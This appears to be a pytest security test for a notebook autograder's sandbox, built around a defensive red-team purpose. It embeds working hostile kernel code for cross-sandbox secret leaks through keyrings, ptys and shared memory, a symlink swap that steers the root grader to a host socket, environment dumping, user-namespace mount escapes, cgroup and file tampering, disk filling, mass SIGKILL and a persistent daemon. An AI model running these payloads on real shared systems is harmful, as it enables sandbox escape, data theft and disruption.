"""More ways out of a grading kernel than tests/test_isolation.py tries (issue O, held-out variations).

One class is graded with ``--jobs 2``, honest students beside and after the attackers. A sender and a
receiver graded at the same time try to pass a secret between their sandboxes through what namespaces do
not separate (the kernel's keyrings, the host's ptys) and through what they do (SysV shared memory, POSIX
message queues, abstract Unix sockets, /dev/shm); one kernel turns the link the grader follows to its
socket into a link to a Unix socket of the host; one prints the grader's environment; one tries a user
namespace of its own, the control group's files, the release notebook and the view, fills every folder it
may write, leaves a daemon behind and signals everything it can name.
"""
import json
import os
import re
import socket
import threading
import time

import nbformat
import pytest

from autograder import course
from autograder.__main__ import grade_class
from autograder.settings import Limits
from tests.hostile_cases import AID, FULL, SOL
from tests.test_hostile import per_exercise
from tests.submissions import make_submission

SECRET = "SENDER_SECRET_5c1e"  # what the sender publishes: must never reach the receiver
PLANTED = "GRADER_SECRET_TOKEN"  # a variable of the grader's environment: must never reach a kernel
PLANTED_VALUE = "tok-9b2f4e0c"

# Publishes SECRET every way it can think of, then holds it all for 30 s (the receiver is graded meanwhile).
SEND = r'''
import ctypes, ctypes.util, json, os, socket, time
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_secret = b"@SECRET@"
_sent = {}
# a key in this uid's user keyring that anyone may view and read (keyrings have no namespace of their own)
_key = _libc.syscall(248, b"user", b"redteam-key", _secret, len(_secret), ctypes.c_long(-4))  # add_key to @u
if _key > 0:
    _libc.syscall(250, 5, ctypes.c_long(_key), ctypes.c_ulong(0x3f3f3f3f))  # KEYCTL_SETPERM
    _libc.syscall(250, 15, ctypes.c_long(_key), ctypes.c_ulong(300))  # KEYCTL_SET_TIMEOUT: gone in 5 min
_sent["key"] = _key
# a pty of the host's devpts, opened to every user, the secret waiting on it
try:
    _master, _slave = os.openpty()
    _name = os.ttyname(_slave)
    os.chmod(_name, 0o666)
    os.write(_master, _secret + b"\n")
    _sent["pty"] = _name
except OSError as e:
    _sent["pty"] = repr(e)
# SysV shared memory, a POSIX message queue, an abstract Unix socket, a file in /dev/shm
_shm = _libc.shmget(0x7ED7EA11, 4096, 0o1000 | 0o666)
_sent["shm"] = _shm
if _shm >= 0:
    _libc.shmat.restype = ctypes.c_void_p
    _addr = _libc.shmat(_shm, None, 0)
    ctypes.memmove(_addr, _secret, len(_secret))
_rt = ctypes.CDLL(ctypes.util.find_library("rt"), use_errno=True)
_mq = _rt.mq_open(b"/redteam", os.O_CREAT | os.O_RDWR, 0o666, None)
_sent["mq"] = _mq
if _mq >= 0:
    _rt.mq_send(_mq, _secret, len(_secret), 0)
_abstract = socket.socket(socket.AF_UNIX)
_abstract.bind("\0redteam-abstract")
_abstract.listen()
with open("/dev/shm/redteam", "wb") as _f:
    _f.write(_secret)
os.chmod("/dev/shm/redteam", 0o666)
print("SENT", json.dumps(_sent))
time.sleep(30)
'''

# For 30 s, looks for what the sender published; reports every way it found it.
RECEIVE = r'''
import ctypes, ctypes.util, json, os, socket, time
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_rt = ctypes.CDLL(ctypes.util.find_library("rt"), use_errno=True)
_secret = b"@SECRET@"
_found = {}
def _keys():
    for _row in open("/proc/keys").read().splitlines():
        if "redteam-key" in _row:
            _buf = ctypes.create_string_buffer(256)
            _n = _libc.syscall(250, 11, ctypes.c_long(int(_row.split()[0], 16)), _buf, 256)  # KEYCTL_READ
            return _buf.raw[:max(_n, 0)].decode(errors="replace") or "listed"
def _pty():
    for _name in os.listdir("/dev/pts"):
        if not _name.isdigit():
            continue
        try:
            _fd = os.open(f"/dev/pts/{_name}", os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            return os.read(_fd, 256).decode(errors="replace") or "opened"
        except OSError:
            return "opened"
        finally:
            os.close(_fd)
def _shm():
    _id = _libc.shmget(0x7ED7EA11, 0, 0)
    if _id >= 0:
        _libc.shmat.restype = ctypes.c_void_p
        return ctypes.string_at(_libc.shmat(_id, None, 0), len(_secret)).decode(errors="replace")
def _mq():
    _q = _rt.mq_open(b"/redteam", os.O_RDONLY | os.O_NONBLOCK)
    if _q >= 0:
        return "opened"
def _abstract():
    with socket.socket(socket.AF_UNIX) as _s:
        try:
            _s.connect("\0redteam-abstract")
            return "connected"
        except OSError:
            return None
def _devshm():
    try:
        return open("/dev/shm/redteam").read()
    except OSError:
        return None
_end = time.time() + 30
while time.time() < _end and len(_found) < 6:
    for _way in (_keys, _pty, _shm, _mq, _abstract, _devshm):
        try:
            _got = _way()
        except Exception:
            _got = None
        if _got:
            _found[_way.__name__.strip("_")] = _got
    time.sleep(0.5)
print("ATTACK", json.dumps(_found))
'''

# The grader reaches the kernel's sockets through links to /proc/<kernel>/root/tmp/.kernel/ipc-<port>, and
# the kernel owns that folder: it replaces its stdin socket with an absolute link, which the grader resolves
# in its own file system (the host's), and drops the connection, so that the grader connects again.
SOCKET_LINK = r'''
import glob, json, os, time
_info = json.load(open(glob.glob("/tmp/.kernel/*.json")[0]))
_path = f"/tmp/.kernel/ipc-{_info['stdin_port']}"
get_ipython().kernel.stdin_socket.close(linger=0)
try:
    os.unlink(_path)
except OSError:
    pass
os.symlink("@BAIT@", _path)
time.sleep(5)
'''

ENVIRONMENT = r'''
import json, os
print("ATTACK", json.dumps({"planted": os.environ.get("@PLANTED@"), "names": sorted(os.environ)}))
'''

# Everything a kernel might try on its own: a user namespace of its own to undo the covers, the control
# group's settings, the release notebook and the view, every folder it may write, a daemon in a session of
# its own, and SIGKILL to every process it can name.
ESCAPE = r'''
import ctypes, json, os, signal, sys, time
_libc = ctypes.CDLL(None, use_errno=True)
_seen = {}
def _try(name, f):
    try:
        _seen[name] = f()
    except Exception as e:
        _seen[name] = "refused: " + type(e).__name__
def _userns():
    _r, _w = os.pipe()
    _pid = os.fork()
    if _pid == 0:
        _out = {}
        try:
            _out["unshare"] = _libc.unshare(0x10000000 | 0x00020000) == 0
            _uid = os.getuid()
            try:  # refused here; the new namespace's capabilities do not need it
                with open("/proc/self/uid_map", "w") as f:
                    f.write(f"0 {_uid} 1")
            except OSError:
                pass
            def _m(src, tgt, fs, fl):
                return _libc.mount(src, tgt, fs, ctypes.c_ulong(fl), None) == 0
            os.makedirs("/tmp/b", exist_ok=True)
            _out["bind root alone"] = _m(b"/", b"/tmp/b", None, 4096)  # shows what lies under the covers
            _out["unmount a cover"] = _libc.umount2(@COURSE@.encode(), 2) == 0
            _out["remount /usr writable"] = _m(None, b"/usr", None, 32 | 4096)
            _out["course"] = sorted(os.listdir(@COURSE@)) if os.path.isdir(@COURSE@) else []
            _out["course under bind"] = (sorted(os.listdir("/tmp/b" + @COURSE@))
                                         if os.path.isdir("/tmp/b" + @COURSE@) else [])
        except Exception as e:
            _out["error"] = repr(e)
        os.write(_w, json.dumps(_out).encode())
        os._exit(0)
    os.close(_w)
    _data = os.read(_r, 65536)
    os.waitpid(_pid, 0)
    return json.loads(_data)
_try("userns", _userns)
_cg = [l for l in open("/proc/self/cgroup").read().splitlines() if ":memory:" in l][0].split(":", 2)[2]
def _write(path, text="0"):
    with open(path, "a") as f:
        f.write(text)
    return "written"
_try("memory limit", lambda: _write(f"/sys/fs/cgroup/memory{_cg}/memory.limit_in_bytes", "-1"))
_try("cgroup root", lambda: _write("/sys/fs/cgroup/memory/cgroup.procs", str(os.getpid())))
_try("release notebook", lambda: _write(@RELEASE@, "\n"))
_try("view", lambda: _write(os.path.join(os.environ["PYTHONPATH"], "lib", "__init__.py"), "\nPWNED = 1\n"))
def _fill(folder):
    _n = 0
    try:
        with open(os.path.join(folder, "fill.bin"), "wb") as f:
            while _n < 512:
                f.write(b"0" * 2**20)
                f.flush()
                _n += 1
    except OSError:
        pass
    try:
        os.remove(os.path.join(folder, "fill.bin"))
    except OSError:
        pass
    return _n
_seen["filled_mb"] = {_d: _fill(_d) for _d in (".", "/tmp", "/dev/shm", "/dev", "/dev/pts")}
if os.fork() == 0:  # SIGKILL to every process it may signal (its own namespace's; not the kernel, PID 1)
    os.kill(-1, signal.SIGKILL)
    os._exit(0)
time.sleep(1)
# a daemon: double fork, a session of its own, a name to be found by, then wait for the kernel to end
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _libc.prctl(15, b"redteam-daemon", 0, 0, 0)  # PR_SET_NAME
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        time.sleep(600)
    os._exit(0)
time.sleep(1)
print("ATTACK", json.dumps(_seen))
'''

ORDER = {name: f"s{i}_{name}" for i, name in enumerate(
    ["send", "receive", "honest0", "socket", "environment", "escape", "honest1"])}


def _honest():
    return {"softmax": SOL["softmax"] + "\n# my own work\n"}


def _attack(code):
    return {"softmax": SOL["softmax"] + "\n" + code}


def _printed(out, folder) -> str:
    nb = nbformat.read(out / "autograded" / folder / AID / f"{AID}.ipynb", as_version=4)
    return "".join(o.get("text", "") for c in nb.cells if c.cell_type == "code" for o in c.get("outputs", []))


def _attack_report(out, folder) -> dict:
    found = re.search(r"ATTACK (\{.*\})", _printed(out, folder))
    assert found, _printed(out, folder)[-2000:]
    return json.loads(found.group(1))


class Bait:
    """A Unix socket of the host's that only root may use, and who connected to it."""

    def __init__(self, path):
        self.path, self.peers = str(path), []
        self.server = socket.socket(socket.AF_UNIX)
        self.server.bind(self.path)
        os.chmod(self.path, 0o600)
        self.server.listen()
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            self.peers.append(conn.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
            conn.close()

    def close(self):
        self.server.close()


def _daemons() -> list:
    found = []
    for entry in os.listdir("/proc"):
        try:
            with open(f"/proc/{entry}/comm") as f:
                if f.read().strip() == "redteam-daemon":
                    found.append(int(entry))
        except OSError:
            continue
    return found


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("variations")
    bait = Bait(tmp / "bait.sock")
    release = course.release_notebook(AID)
    escape = (ESCAPE.replace("@COURSE@", repr(str(course.ROOT))).replace("@RELEASE@", repr(str(release))))
    codes = {"send": SEND.replace("@SECRET@", SECRET), "receive": RECEIVE.replace("@SECRET@", SECRET),
             "socket": SOCKET_LINK.replace("@BAIT@", bait.path),
             "environment": ENVIRONMENT.replace("@PLANTED@", PLANTED), "escape": escape}
    submitted = tmp / "submitted"
    for name, folder in ORDER.items():
        make_submission(AID, submitted / folder / AID / f"{AID}.ipynb",
                        _attack(codes[name]) if name in codes else _honest())
    release_before = release.read_bytes()
    saved = os.environ.get(PLANTED)
    os.environ[PLANTED] = PLANTED_VALUE  # as an instructor's shell might hold a token
    try:
        results, _ = grade_class(submitted, tmp / "out", jobs=2, progress=False,
                                 limits=Limits(cell_timeout=45, notebook_timeout=120))
    finally:
        if saved is None:
            os.environ.pop(PLANTED, None)
        else:
            os.environ[PLANTED] = saved
        time.sleep(1)
        bait.close()
    names = {folder: name for name, folder in ORDER.items()}
    daemons = _daemons()
    for pid in daemons:  # leave nothing behind for the next test
        try:
            os.kill(pid, 9)
        except OSError:
            pass
    return {"results": {names[r.student]: r for r in results}, "out": tmp / "out", "bait": bait.peers,
            "daemons": daemons, "release_changed": release.read_bytes() != release_before}


# --- what works now (each must fail until the sandbox is fixed) ---

def test_no_secret_passes_between_kernels_through_keyrings(graded):
    """Keyrings are not namespaced: a key the sender makes readable by all is listed in the receiver's
    /proc/keys and read with KEYCTL_READ, while both are graded (and for as long as the key lives)."""
    found = _attack_report(graded["out"], ORDER["receive"])
    assert "keys" not in found, f"the receiver read the sender's key: {found}"


def test_no_secret_passes_between_kernels_through_ptys(graded):
    """/dev (and /dev/pts, the host's devpts) is neither read-only nor covered: the sender opens a pty of
    the host's, makes it 0666, and the receiver opens it."""
    found = _attack_report(graded["out"], ORDER["receive"])
    assert "pty" not in found, f"the receiver opened the sender's pty: {found}"


def test_the_grader_connects_to_no_socket_a_kernel_names(graded):
    """A kernel swaps its stdin socket for a link to /some/host/socket: the grader (root) follows it in
    its own file system when it reconnects, and connects to a root-only socket of the host."""
    assert graded["bait"] == [], f"the grader connected to a socket the kernel chose: {graded['bait']}"


def test_the_graders_environment_stays_out_of_kernels(graded):
    """What a kernel prints comes back to its student (the graded notebook, the feedback): a token in the
    grader's environment must not be in the kernel's."""
    seen = _attack_report(graded["out"], ORDER["environment"])
    assert seen["planted"] is None, f"the kernel read the grader's {PLANTED}"


# --- held-out variations that are stopped now (must keep passing) ---

def test_ipc_network_and_shared_memory_stay_per_kernel(graded):
    """SysV shared memory, POSIX message queues, abstract Unix sockets and /dev/shm: each sandbox has its own."""
    found = _attack_report(graded["out"], ORDER["receive"])
    assert not {"shm", "mq", "abstract", "devshm"} & set(found), found
    sent = re.search(r"SENT (\{.*\})", _printed(graded["out"], ORDER["send"]))
    assert sent, "the sender did not run"
    sent = json.loads(sent.group(1))
    assert sent["shm"] >= 0 and sent["mq"] >= 0, sent  # it did publish, in its own namespaces


def test_honest_students_keep_their_grades(graded):
    for name in ("honest0", "honest1"):
        r = graded["results"][name]
        assert per_exercise(r) == FULL, (name, r.error, r.notes, [(c.grade_id, c.message) for c in r.cells])
        assert r.sandbox == "isolated", r.sandbox


def test_a_user_namespace_of_its_own_undoes_no_cover(graded):
    seen = _attack_report(graded["out"], ORDER["escape"])["userns"]
    assert not seen.get("bind root alone") and not seen.get("unmount a cover"), seen
    assert not seen.get("remount /usr writable"), seen
    for listing in (seen.get("course", []), seen.get("course under bind", [])):
        assert set(listing) <= {".venv", "notebooks"}, seen


def test_no_setting_shared_file_or_view_can_be_written(graded):
    seen = _attack_report(graded["out"], ORDER["escape"])
    for what in ("memory limit", "cgroup root", "release notebook", "view"):
        assert str(seen[what]).startswith("refused"), (what, seen[what])
    assert not graded["release_changed"]
    assert all(mb <= 64 for mb in seen["filled_mb"].values()), seen["filled_mb"]
    assert seen["filled_mb"]["/dev"] == 0 and seen["filled_mb"]["/dev/pts"] == 0, seen["filled_mb"]


def test_nothing_of_a_kernel_outlives_it(graded):
    """A double-forked daemon in a session of its own dies with its kernel; SIGKILL to every process the
    kernel can name reaches none of the grader's or a classmate's."""
    assert graded["daemons"] == [], f"processes of a graded kernel still run: {graded['daemons']}"
    assert "ATTACK" in _printed(graded["out"], ORDER["escape"])  # it ran to the end, its daemon started
